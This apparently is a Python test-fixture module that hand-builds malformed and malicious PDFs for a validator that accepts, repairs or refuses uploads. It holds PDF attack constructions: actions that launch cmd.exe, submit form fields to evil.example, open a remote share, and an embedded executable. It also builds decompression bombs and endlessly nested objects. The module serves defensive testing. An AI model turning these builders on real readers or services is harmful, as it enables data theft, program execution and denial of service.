"""Invalid and malicious PDFs, written by hand: no library would write them."""

import zlib
from collections.abc import Iterator, Sequence
from functools import cache
from io import BytesIO

import pikepdf

SCRIPT = b"<script>alert('almoner')</script>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Resources << >> >>"


def pdf(*more: bytes, catalogue: bytes = b"", page: bytes = PAGE, trailer: bytes = b"", pages: bytes = b"") -> bytes:
    """A PDF of one page; ``more`` are objects from number 4 on, ``catalogue`` and ``trailer`` further entries."""
    tree = pages or b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return written([b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue, tree, page, *more], trailer)


def written(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """Objects from number 1 on, with their cross-reference table."""
    made, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (len(objects) + 1, trailer)
    return made + table + end + b"startxref\n%d\n%%%%EOF\n" % len(made)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), entries, content)


def packed(content: bytes, times: int = 1) -> bytes:
    """A stream compressed several times."""
    for _ in range(times):
        content = zlib.compress(content, 9)
    return stream(content, b"/Filter [%s]" % (b" /FlateDecode" * times))


@cache
def zeroes(size: int) -> bytes:
    """Compressed zero bytes, without ever holding them in memory."""
    pack = zlib.compressobj(9)
    made = b"".join(pack.compress(bytes(1 << 20)) for _ in range(size >> 20))
    return made + pack.flush()


def plain(pages: int = 1) -> bytes:
    """A harmless PDF, written by a library."""
    made = BytesIO()
    with pikepdf.new() as opened:
        for _ in range(pages):
            opened.add_blank_page()
        opened.save(made)
    return made.getvalue()


def active() -> Iterator[tuple[str, bytes]]:
    """PDFs that do more than show pages: accepted for review."""
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    yield "javascript when opened", pdf(catalogue=b"/OpenAction " + script)
    yield "javascript of the document", pdf(catalogue=b"/AA << /WC %s >>" % script)
    yield "javascript of a page", pdf(page=PAGE[:-2] + b"/AA << /O %s >> >>" % script)
    yield "javascript by name", pdf(script, catalogue=b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>")
    yield "javascript, its name escaped", pdf(catalogue=b"/OpenAction << /S /J#61vaScript /J#53 (1) >>")
    yield (
        "javascript in a stream",
        pdf(stream(b"app.alert(1)"), catalogue=b"/OpenAction << /S /JavaScript /JS 4 0 R >>"),
    )
    yield "javascript that nothing leads to", pdf(script)
    yield (
        "javascript of a field",
        pdf(b"<< /FT /Tx /AA << /K %s >> >>" % script, catalogue=b"/AcroForm << /Fields [4 0 R] >>"),
    )
    yield "javascript in an object stream", _in_object_stream(script)
    yield "javascript in an update", _updated(script)
    yield "javascript, deep inside", pdf(b"[" * 60 + script + b"]" * 60)
    yield "forms with scripts", pdf(stream(b"<xdp/>"), catalogue=b"/AcroForm << /XFA 4 0 R /Fields [] >>")
    for name, action in (
        ("launch", b"/S /Launch /F (cmd.exe)"),
        ("launch for one system", b"/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>"),
        ("another file", b"/S /GoToR /F (//evil.example/share/a.pdf) /D [0 /Fit]"),
        ("an embedded file", b"/S /GoToE /T << /R /C /N (a.pdf) >>"),
        ("sends its fields", b"/S /SubmitForm /F (https://evil.example/)"),
        ("takes fields", b"/S /ImportData /F (a.fdf)"),
        ("plays", b"/S /Rendition /OP 0"),
        ("shows a film", b"/S /Movie"),
        ("sounds", b"/S /Sound"),
    ):
        yield name, pdf(catalogue=b"/OpenAction << %s >>" % action)
        yield name + " by a link", pdf(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << %s >> >>" % action)
    embedded = stream(b"MZ", b"/Type /EmbeddedFile")
    names = b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>] >> >>"
    yield "a program attached", pdf(embedded, catalogue=names)
    yield "a file attached to a page", pdf(embedded, b"<< /Subtype /FileAttachment /FS << /EF << /F 4 0 R >> >> >>")
    yield "rich media", pdf(b"<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>")
    yield "a model", pdf(b"<< /Type /Annot /Subtype /3D >>")


def encrypted(settings: pikepdf.Encryption) -> bytes:
    """A PDF with a password."""
    made = BytesIO()
    with pikepdf.new() as opened:
        opened.add_blank_page()
        opened.pages[0].Contents = opened.make_stream(b"0 0 m 9 9 l S")
        opened.save(made, encryption=settings)
    return made.getvalue()


def with_readable_metadata() -> bytes:
    """A PDF with an owner password whose metadata is not encrypted, as Acrobat writes it."""
    stated = b"/Filter/Crypt/DecodeParms<</Type/CryptFilterDecodeParms/Name/Identity>>"
    replaced = "/" + "A" * (len(stated) - 3)
    made = BytesIO()
    with pikepdf.new() as opened:
        opened.add_blank_page()
        opened.Root.Metadata = opened.make_stream(b"<x/>", {"/Type": pikepdf.Name.Metadata, replaced: 1})
        settings = pikepdf.Encryption(owner="o", user="", R=4, metadata=False)
        opened.save(made, encryption=settings, compress_streams=False, fix_metadata_version=False)
    before, found, after = made.getvalue().partition(f"{replaced} 1".encode())
    assert found, "it stands in the file as it was given"
    return before + stated + after


def with_image(*filters: bytes, content: bytes) -> bytes:
    """A PDF with an image that these filters decode."""
    entries = b"/Type /XObject /Subtype /Image /Width 60 /Height 40 /ColorSpace /DeviceRGB /BitsPerComponent 8"
    return pdf(stream(content, entries + b" /Filter [%s]" % b" ".join(filters)))


def repairable() -> Iterator[tuple[str, bytes]]:
    """PDFs with minor damage and only one reading: repaired."""
    yield "table elsewhere", pdf().replace(b"startxref\n", b"startxref\n9")
    yield "no end", pdf().replace(b"%%EOF", b"")
    yield "a few bytes behind its end", pdf() + b"\x1a\x00ok"
    yield "blanks before its head", b"\r\n\r\n" + pdf()
    yield "a mark before its head", b"\xef\xbb\xbf" + pdf()
    yield "a mark before its head, and metadata", b"\xef\xbb\xbf" + _with_metadata()
    yield "no end, and metadata that is no XML", _with_metadata(b"<x:xmpmeta").replace(b"%%EOF", b"")
    yield "a printer's commands around it", b"\x1b%-12345X@PJL JOB\r\n" + pdf() + b"\x1b%-12345X"
    yield "the head of a response before it", b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n" + pdf()
    yield "numbers of its table off by one", pdf().replace(b"0000000015", b"0000000016")
    yield "zeroes behind its end", pdf() + bytes(2000)
    yield "table of objects that begins with one", pdf().replace(b"xref\n0 ", b"xref\n1 ")
    yield "a blank before its table", pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7 \n")
    yield "a stream that does not say its length", pdf(b"<< >>\nstream\n0 0 m\nendstream")
    yield "pages without their type", pdf(pages=b"<< /Kids [3 0 R] /Count 1 >>")
    yield "a page without its size", pdf(page=b"<< /Type /Page /Parent 2 0 R >>")
    yield "a stream shorter than it says", pdf(b"<< /Length 99 >>\nstream\n0 0 m\nendstream")


def _with_metadata(text: bytes = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"/>') -> bytes:
    """A PDF with metadata, as all programs for offices write it."""
    entries = b"/Type /Metadata /Subtype /XML"
    return pdf(stream(text, entries), catalogue=b"/Metadata 4 0 R")


def broken() -> Iterator[tuple[str, bytes]]:
    """PDFs that are damaged, encrypted, endless or far too large: refused."""
    yield "no table", pdf().partition(b"xref\n")[0] + b"%%EOF\n"
    yield "no trailer", pdf().replace(b"trailer", b"reliart")
    yield "no root", pdf().replace(b"/Root 1 0 R", b"")
    yield "no pages", pdf(pages=b"<< /Type /Pages /Kids [] /Count 0 >>")
    yield "pages in a circle", pdf(pages=b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")
    yield "root that is a page", pdf().replace(b"/Root 1 0 R", b"/Root 3 0 R")
    yield "tables in a circle", _circle()
    yield "10,000 pages", _many_pages(10_000)
    yield "201 pages", _many_pages(201)
    yield "one page 10,000 times", pdf(pages=b"<< /Type /Pages /Kids [%s] /Count 10000 >>" % (b"3 0 R " * 10_000))
    yield "nested without end", pdf(b"[" * 500_000)
    yield "dictionaries without end", pdf(b"<< /A " * 200_000)
    yield "unpacks to 256 MB", pdf(stream(zeroes(256 << 20), b"/Filter /FlateDecode"))
    yield (
        "unpacks to 256 MB, twice packed",
        pdf(stream(zlib.compress(zeroes(256 << 20), 9), b"/Filter [/FlateDecode /FlateDecode]")),
    )
    yield "unpacks to 60 MB in pieces", pdf(*[packed(bytes(1 << 20))] * 60)
    yield "unpacks to 60 MB, five times packed", pdf(packed(bytes(60 << 20), 5))
    yield "runs without end", pdf(stream(b"\x81\x00" * 1_000_000, b"/Filter /RunLengthDecode"))
    yield "objects that unpack to 256 MB", _bomb_of_objects()
    yield "a table that unpacks to 256 MB", _bomb_of_a_table()
    yield "unknown packing", pdf(stream(b"x", b"/Filter /Brotli"))
    yield "packed in two ways", pdf(stream(b"x", b"/Filter [/FlateDecode /LZWDecode]"))
    yield "packed data that is none", pdf(stream(b"\xff" * 100, b"/Filter /FlateDecode"))
    yield "encrypted with a filter", pdf(stream(b"x", b"/Filter /Crypt"))
    yield "a length that is no length", pdf(b"<< /Length (x) >>\nstream\nx\nendstream")
    yield "version without numbers", pdf().replace(b"%PDF-1.7", b"%PDF-x.y")
    yield "head only", b"%PDF-1.7\n%%EOF\n"
    yield "a script for a head", b"%PDF-1.7" + SCRIPT + b"\n%%EOF"
    for name, settings in (
        ("AES 256", pikepdf.Encryption(owner="o", user="u", R=6)),
        ("AES 128", pikepdf.Encryption(owner="o", user="u", R=4)),
        ("RC4 128", pikepdf.Encryption(owner="o", user="u", R=3, aes=False, metadata=False)),
        ("RC4 40", pikepdf.Encryption(owner="o", user="u", R=2, aes=False, metadata=False)),
    ):
        yield "encrypted by " + name, encrypted(settings)


def _many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    tree = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    return written([b"<< /Type /Catalog /Pages 2 0 R >>", tree, *[PAGE] * count])


def _in_object_stream(action: bytes) -> bytes:
    made = BytesIO()
    with pikepdf.open(BytesIO(pdf(action))) as opened:
        opened.Root.OpenAction = opened.make_indirect(opened.get_object(4, 0))
        opened.save(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return made.getvalue()


def _updated(action: bytes) -> bytes:
    first = pdf()
    before = int(first.rpartition(b"startxref\n")[2].split()[0])
    changed = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>\nendobj\n" % action
    table = b"xref\n1 1\n%010d 00000 n \n" % len(first)
    end = b"trailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    return first + changed + table + end % (before, len(first) + len(changed))


def _circle() -> bytes:
    made = pdf()
    place = int(made.rpartition(b"startxref\n")[2].split()[0])
    return made.replace(b"/Root", b"/Prev %d /Root" % place)


def _bomb_of_objects() -> bytes:
    """Its objects are in a stream that unpacks to 256 MB."""
    return _by_table_stream(stream(zeroes(256 << 20), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"))


def _bomb_of_a_table() -> bytes:
    made = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    place = len(made)
    entries = b"/Type /XRef /W [1 2 1] /Size 268435456 /Root 1 0 R /Filter /FlateDecode"
    made += b"1 0 obj\n%s\nendobj\n" % stream(zeroes(256 << 20), entries)
    return made + b"startxref\n%d\n%%%%EOF\n" % place


def _by_table_stream(objects: bytes) -> bytes:
    made = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    places = []
    bodies = (b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE, objects)
    for number, body in enumerate(bodies, start=2):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    place = len(made)
    rows = b"\0\0\0\0\0" + b"\2\0\0\4\0" + b"".join(b"\1%s\0" % at.to_bytes(3) for at in (*places, place))
    made += b"5 0 obj\n%s\nendobj\n" % stream(rows, b"/Type /XRef /W [1 3 1] /Size 6 /Root 1 0 R")
    return made + b"startxref\n%d\n%%%%EOF\n" % place
